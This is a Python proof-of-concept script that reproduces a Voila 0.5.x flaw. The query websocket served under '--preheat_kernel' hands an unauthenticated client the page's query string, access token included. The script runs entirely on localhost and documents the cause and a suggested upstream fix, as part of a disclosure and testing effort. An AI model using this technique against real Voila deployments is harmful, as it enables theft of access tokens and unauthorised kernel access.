"""Minimal reproducer of an upstream Voila issue (voila 0.5.x): with ``--preheat_kernel``,
``/voila/query/<kernel id>`` hands anyone the query string of the page that took that
kernel, the token included.

Run by hand: ``.venv/bin/python scripts/voila_query_socket_repro.py``.

The cause: ``RequestInfoSocketHandler`` (``voila/request_info_handler.py``) is a plain
tornado ``WebSocketHandler``: no token, no cookie, no ``Host`` check. When a page takes
a preheated kernel, ``VoilaHandler`` calls ``RequestInfoSocketHandler.send_updates``
with that request's query string; with no socket waiting, it goes into the class-level
``_cache``, keyed by kernel id, and stays there. Kernel ids are in every kernel's
command line (``-f .../kernel-<id>.json``), which ``ps`` shows to every local user.

This script starts stock Voila (``python -m voila``) with a token and a preheated
kernel on a one-cell notebook, opens the page with the token, and then, as a client
with no credential at all, asks the query socket for that page's kernel:

    stock voila: /voila/query/<id> answered a client without credentials; token in it: True

interview_kit's server (``interview_kit/cli/voila_server.py``) does not serve the
route (the dashboard never reads it) and puts every route behind the token; an
upstream fix would authenticate the socket as the kernel websocket is, and drop the
cache entry once read (or never keep the query string of a token-authenticated page).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

import nbformat
import websocket
from nbformat.v4 import new_code_cell, new_notebook


def main() -> None:
    from interview_kit.cli.launch import free_port, new_token, stop, wait_until_up

    folder = Path(tempfile.mkdtemp(prefix="voila-query-"))
    nb = new_notebook(cells=[new_code_cell("x = 1")])
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nbformat.write(nb, folder / "one.ipynb")
    port, token = free_port(), new_token()
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "voila",
            "one.ipynb",
            f"--port={port}",
            "--no-browser",
            "--Voila.ip=127.0.0.1",
            "--preheat_kernel=True",
            "--pool_size=1",
        ],
        cwd=folder,
        env={**os.environ, "JUPYTER_TOKEN": token},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_until_up(f"http://127.0.0.1:{port}/voila/static/", server)
        time.sleep(8)  # the pool fills
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/?token={token}", timeout=120) as page:
            kernel = re.search(r'"kernelId": "([0-9a-f-]{36})"', page.read().decode()).group(1)
        ws = websocket.create_connection(
            f"ws://127.0.0.1:{port}/voila/query/{kernel}", timeout=10
        )  # no token, no cookie
        said = ws.recv()
        ws.close()
        print(
            f"stock voila: /voila/query/<id> answered a client without credentials; "
            f"token in it: {token in said}"
        )
    except websocket.WebSocketBadStatusException as refused:
        print(f"stock voila: /voila/query/<id> refused ({refused.status_code})")
    finally:
        stop(server)


if __name__ == "__main__":
    main()
